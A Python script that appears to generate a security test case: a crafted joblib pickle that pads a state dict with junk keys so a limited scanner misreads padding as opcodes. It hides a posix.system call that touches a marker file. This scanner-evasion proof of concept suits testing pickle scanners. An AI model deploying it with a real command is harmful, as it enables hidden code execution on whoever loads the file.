# joblib NumpyArrayWrapper whose state dict holds 14 extra string keys before
# numpy_array_alignment_bytes (a real 32): joblib sets every key as an attribute and reads the
# padding byte; a reader that keeps only the first 16 string-keyed items never sees the key and
# steps over the array without padding, reading joblib's padding as opcodes.
import struct, os
import sys; here = sys.argv[1]
out = os.path.join(here, "review37-joblib_align_20th_key.joblib")
marker = b"/tmp/r37-pwned-joblib-align-17th-key"
def u(s): return b"X" + struct.pack("<I", len(s)) + s
junk = b"".join(u(b"k%02d" % i) + b"N" for i in range(14))
head = (b"\x80\x02cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81}("
        + u(b"subclass") + b"cnumpy\nndarray\n"
        + u(b"shape") + b"K\x01\x85"
        + u(b"dtype") + b"cnumpy\ndtype\n" + u(b"u1") + b"\x89\x88\x87R(K\x03" + u(b"|") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb"
        + u(b"order") + u(b"C")
        + u(b"allow_mmap") + b"\x88"
        + junk                                          # items 6..19
        + u(b"numpy_array_alignment_bytes") + b"K\x10"  # the 20th item
        + b"ub")
N = 0x20
P = b"0cposix\nsystem\n(S'touch " + marker + b"'\ntR."
tail = bytes([N]) + b"B" + struct.pack("<I", 28 + len(P)) + b"\x00" * (N - 5) + b"\x00" + P + b"."
open(out, "wb").write(head + tail)
print(out)
